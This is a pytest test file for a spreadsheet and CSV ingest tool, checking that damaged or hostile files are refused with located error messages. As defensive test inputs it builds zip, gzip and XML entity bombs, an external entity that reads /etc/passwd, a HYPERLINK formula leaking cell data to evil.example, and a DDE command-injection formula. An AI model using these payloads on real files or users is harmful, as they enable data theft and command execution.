"""Files that are broken, hostile or not what they seem: a clear message with the place, and nothing half-loaded."""

from __future__ import annotations

import gzip
import io
import secrets
import zipfile
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from kg.cli import app
from kg.errors import Problem, RecordError
from kg.ingest import read_spreadsheet
from kg.ingest.tabular import Problems, open_tables
from kg.present.spreadsheet import write_spreadsheet
from kg.records import read_registries
from kg.records.model import PersonFact
from tests.conftest import DataFolder
from tests.ingest.sheets import case, facts, problems_of, text_files, workbook

PEOPLE = "person,name,born\npetrenko,Іван Петренко,1980\nkoval,Марія Коваль,1975\n"


def read(path: Path, encoding: str | None = None) -> list[tuple[str, ...]]:
    """Every row of the tables in the file at `path`; raises RecordError."""
    problems = Problems()
    with open_tables(path, problems, encoding=encoding) as tables:
        rows = [row.cells for table in tables for row in table.rows]
    problems.stop_if_any()
    return rows


def refusal(path: Path, content: bytes | str | None = None, encoding: str | None = None) -> str:
    """What is told about the file at `path` with this content; nothing but RecordError may come."""
    if content is not None:
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    with pytest.raises(RecordError) as refused:
        read(path, encoding)
    return str(refused.value)


@pytest.fixture
def csv_file(tmp_path: Path) -> Path:
    return tmp_path / "people.csv"


class TestEncodings:
    def test_utf_8_with_and_without_mark_and_utf_16(self, csv_file: Path) -> None:
        for encoding in ("utf-8", "utf-8-sig", "utf-16"):
            csv_file.write_bytes(PEOPLE.encode(encoding))
            assert read(csv_file)[0] == ("petrenko", "Іван Петренко", "1980")

    def test_another_encoding_is_told_where_it_shows_and_read_when_named(self, csv_file: Path) -> None:
        told = refusal(csv_file, (PEOPLE * 20).encode("windows-1251"))
        assert told.startswith("people.csv:2:10: byte 0xb2 is not UTF-8")
        assert "--encoding windows-1251" in told
        assert read(csv_file, "windows-1251")[0] == ("petrenko", "Іван Петренко", "1980")
        assert "no encoding 'klingon'" in refusal(csv_file, encoding="klingon")

    def test_mixed_encodings(self, csv_file: Path) -> None:
        mixed = PEOPLE.encode() + "sydorenko,Петро Сидоренко,1990\n".encode("windows-1251")
        told = refusal(csv_file, mixed)
        assert told.startswith("people.csv:4:11:")
        assert "two encodings are mixed" in told
        assert "line 2" in told

    def test_nul_and_other_control_characters(self, csv_file: Path) -> None:
        assert refusal(csv_file, PEOPLE.replace("Марія", "Ма\0рія")).startswith("people.csv:3:9: a NUL byte")
        assert "U+0008" in refusal(csv_file, PEOPLE.replace("Марія", "Ма\brія"))

    def test_right_to_left_text_is_kept_as_written(self, csv_file: Path) -> None:
        names = ("خالد الحسن", "משה כהן", "\u200fعلي\u200e", "\u202bמשה\u202c")
        csv_file.write_text("person,name\n" + "".join(f"p{at},{name}\n" for at, name in enumerate(names)), encoding="utf-8")
        assert tuple(row[1] for row in read(csv_file)) == names


class TestTextTables:
    def test_ragged_rows(self, csv_file: Path) -> None:
        told = refusal(csv_file, PEOPLE + "one,two\n\nthree,four,five,six\n")
        assert "people.csv:4:2: column B: the row has 2 cells and the header 3" in told
        assert "people.csv:6:4: column D: the row has 4 cells and the header 3" in told

    def test_a_quotation_mark_left_open(self, csv_file: Path) -> None:
        assert refusal(csv_file, PEOPLE + 'x,"open,1\ny,z,2\n').startswith("people.csv:4:1: a quotation mark is opened")

    def test_a_line_that_goes_on_inside_quotation_marks_keeps_the_numbers_right(self, csv_file: Path) -> None:
        told = refusal(csv_file, PEOPLE + 'x,"two\nlines",1\ny,z\n')
        assert told.startswith("people.csv:6:2:")

    def test_a_cell_of_ten_megabytes(self, csv_file: Path) -> None:
        told = refusal(csv_file, PEOPLE + "x," + "a" * 10_000_000 + ",1\n")
        assert told.startswith("people.csv:4:1: a line of more than 4,000,000 bytes")
        assert refusal(csv_file, PEOPLE + "x," + "a" * 120_000 + ",1\n").startswith("people.csv:4:2: column B: a cell")
        lines = refusal(csv_file, PEOPLE + 'x,"' + "a\n" * 5_000_000 + '",1\n')
        assert lines.startswith("people.csv:4:")

    @pytest.mark.parametrize("content", ["", "\n\n", "# only a remark\n", "\ufeff"])
    def test_files_without_a_table(self, csv_file: Path, content: str) -> None:
        assert "the file" in refusal(csv_file, content)

    def test_headers(self, csv_file: Path) -> None:
        assert "people.csv:1:3: name (column C): this header stands twice" in refusal(csv_file, "person,name,name\na,b,c\n")
        assert "people.csv:1:2: column B: a column without a header" in refusal(csv_file, "person,,name\na,b,c\n")

    def test_delimiters_are_recognised(self, csv_file: Path) -> None:
        for delimiter in ",;\t|":
            csv_file.write_text(PEOPLE.replace(",", delimiter), encoding="utf-8")
            assert read(csv_file)[1] == ("koval", "Марія Коваль", "1975")

    @settings(max_examples=200, deadline=None)
    @given(st.binary(max_size=400))
    def test_any_bytes_are_a_table_or_a_located_problem(self, tmp_path_factory: pytest.TempPathFactory, content: bytes) -> None:
        path = tmp_path_factory.getbasetemp() / "any.csv"
        path.write_bytes(content)
        problems: Sequence[Problem] = []
        try:
            read(path)
        except RecordError as error:
            problems = error.problems
        assert all(problem.line >= 1 and problem.column >= 1 and problem.message for problem in problems)


class TestPacked:
    def test_gzip_is_read(self, csv_file: Path) -> None:
        csv_file.write_bytes(gzip.compress(PEOPLE.encode()))
        assert len(read(csv_file)) == 2

    def test_a_truncated_gzip(self, csv_file: Path) -> None:
        packed = gzip.compress((PEOPLE * 500).encode())
        for size in (12, len(packed) // 2, len(packed) - 4):
            assert "damaged or cut off" in refusal(csv_file, packed[:size])
        assert "damaged" in refusal(csv_file, packed[:30] + b"\xff\xff\xff" + packed[33:])

    def test_a_gzip_bomb(self, csv_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr("kg.ingest.encodings.SMALL", 1_000_000)
        assert "unpacks to more than 300 times its size" in refusal(
            csv_file, gzip.compress(b"person\n" + (b"a" * 9999 + b"\n") * 1000)
        )

    def test_a_zip_bomb(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "bomb.xlsx", case())
        bomb = b"<worksheet><sheetData>" + b"<row/>" * 5_000_000
        repack(path, {"xl/worksheets/sheet1.xml": bomb})
        assert "unpacks from" in refusal(path)
        assert "packing bomb" in refusal(path)

    def test_a_zip_that_lies_about_its_sizes(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "liar.xlsx", case())
        with zipfile.ZipFile(path) as archive:
            info = archive.getinfo("xl/worksheets/sheet1.xml")
        raw = path.read_bytes()
        lie = raw.replace(info.file_size.to_bytes(4, "little"), (10).to_bytes(4, "little"))
        assert lie != raw
        path.write_bytes(lie)
        assert "liar.xlsx" in refusal(path)

    @pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml", "xl/styles.xml"])
    @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
    def test_an_xml_entity_bomb(self, tmp_path: Path, part: str, encoding: str) -> None:
        entities = "".join(f'<!ENTITY b{n + 1} "{f"&b{n};" * 10}">' for n in range(9))
        bomb = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [<!ENTITY b0 "ha">{entities}]><x>&b9;</x>'
        path = workbook(tmp_path / "bomb.xlsx", case())
        repack(path, {part: bomb.encode(encoding)})
        assert f"the part {part} declares a document type or entities" in refusal(path)

    def test_an_external_entity(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "spy.xlsx", case())
        repack(path, {"xl/sharedStrings.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><sst>&a;</sst>'})
        assert "declares a document type" in refusal(path)

    def test_entities_behind_a_megabyte_of_blanks(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "late.xlsx", case())
        repack(path, {"xl/workbook.xml": b"<?xml version='1.0'?>" + b" " * 1_200_000 + b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'})
        assert "late.xlsx" in refusal(path)


def repack(path: Path, parts: dict[str, bytes]) -> None:
    """Replace parts of a workbook."""
    with zipfile.ZipFile(path) as archive:
        content = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**content, **parts}.items():
            archive.writestr(name, text)


class TestWorkbooks:
    def test_formulas_are_never_evaluated(self, tmp_path: Path) -> None:
        sheets = case()
        sheets["people"][0]["name"] = '=HYPERLINK("http://evil.example/?"&A1)'
        (problem,) = problems_of(workbook(tmp_path / "cases.xlsx", sheets))
        assert str(problem).startswith("cases.xlsx[people]:2:2: column B: a formula")
        assert "never evaluated" in problem.hint

    def test_formulas_in_text_files_are_text_and_are_neutralised_on_export(self, tmp_path: Path) -> None:
        sheets = case()
        evil = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "'=1+1"]
        sheets["people"] += [{"person": f"p{at}", "name": text} for at, text in enumerate(evil)]
        (record,) = read_spreadsheet(text_files(tmp_path / "cases.csv", sheets))
        names = {fact.name for fact in facts(record, PersonFact)}
        # In a text file an apostrophe before a formula is the mark that neutralised it.
        assert {*evil[:4], "=1+1"} <= names
        write_spreadsheet([record], tmp_path / "out.csv")
        write_spreadsheet([record], tmp_path / "out.xlsx")
        for line in (tmp_path / "out-people.csv").read_text(encoding="utf-8-sig").splitlines():
            assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in line.split(","))
        cells = [cell for row in openpyxl.load_workbook(tmp_path / "out.xlsx")["people"].iter_rows() for cell in row]
        assert {cell.data_type for cell in cells if cell.value} == {"s"}
        assert {cell.quotePrefix for cell in cells if str(cell.value).startswith("=")} == {True}

    def test_error_values(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "cases.xlsx", case())
        book = openpyxl.load_workbook(path)
        book["people"]["B3"].value = "#REF!"
        book.save(path)
        (problem, *_) = problems_of(path)
        assert str(problem).startswith("cases.xlsx[people]:3:2: column B: the error value #REF!")

    def test_a_cell_longer_than_any(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "cases.xlsx", case())
        part = f"xl/worksheets/sheet{list(case()).index('people') + 1}.xml"
        with zipfile.ZipFile(path) as archive:
            cells = archive.read(part)
        repack(path, {part: cells.replace(b"Petro Sydorenko", secrets.token_hex(5_000_000).encode())})
        (problem, *_) = problems_of(path)
        assert str(problem).startswith("cases.xlsx[people]:3:2: column B: a cell of 10,000,000 characters")

    def test_files_that_are_not_what_they_are_called(self, tmp_path: Path) -> None:
        path = tmp_path / "cases.xlsx"
        assert "not an .xlsx workbook" in refusal(path, PEOPLE)
        assert "old Excel file or one with a password" in refusal(path, b"\xd0\xcf\x11\xe0" + b"\0" * 600)
        assert "a PDF" in refusal(path, b"%PDF-1.7 ...")
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            archive.writestr("word/document.xml", "<w/>")
        assert "not an .xlsx workbook" in refusal(path, packed.getvalue())

    def test_a_damaged_workbook(self, tmp_path: Path) -> None:
        path = workbook(tmp_path / "cases.xlsx", case())
        whole = path.read_bytes()
        assert "damaged" in refusal(path, whole[: len(whole) // 2])
        repack(workbook(path, case()), {"xl/worksheets/sheet2.xml": b"<worksheet><sheetData><row><c t='s'><v>99999</v>"})
        assert "cannot be read" in refusal(path)
        repack(workbook(path, case()), {"xl/workbook.xml": b"<workbook"})
        assert "cannot be read" in refusal(path)


HOSTILE = {
    "windows.csv": PEOPLE.encode("windows-1251"),
    "nul.csv": b"a,b\n\0,1\n",
    "cut.csv.gz": gzip.compress(PEOPLE.encode() * 99)[:40],
    "damaged.xlsx": b"PK\x03\x04rubbish",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_the_command_ends_with_1_and_writes_nothing(folder: DataFolder, tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(HOSTILE[name])
    result = CliRunner().invoke(app, ["ingest", str(path), "--data", str(folder.path)])
    assert result.exit_code == 1
    assert isinstance(result.exception, RecordError)
    assert str(result.exception).startswith(f"{name}:")
    assert list((folder.path / "records").iterdir()) == []


@pytest.mark.parametrize("name", ["README.md", "report.pdf", "old.xls"])
def test_a_file_that_is_no_table_is_told_apart_from_a_broken_one(folder: DataFolder, tmp_path: Path, name: str) -> None:
    file = tmp_path / name
    file.write_text("# Something else\n", encoding="utf-8")
    with pytest.raises(RecordError, match=r"no table.*\n?.*\.xlsx or \.csv"):
        read_spreadsheet(file, read_registries(folder.path))
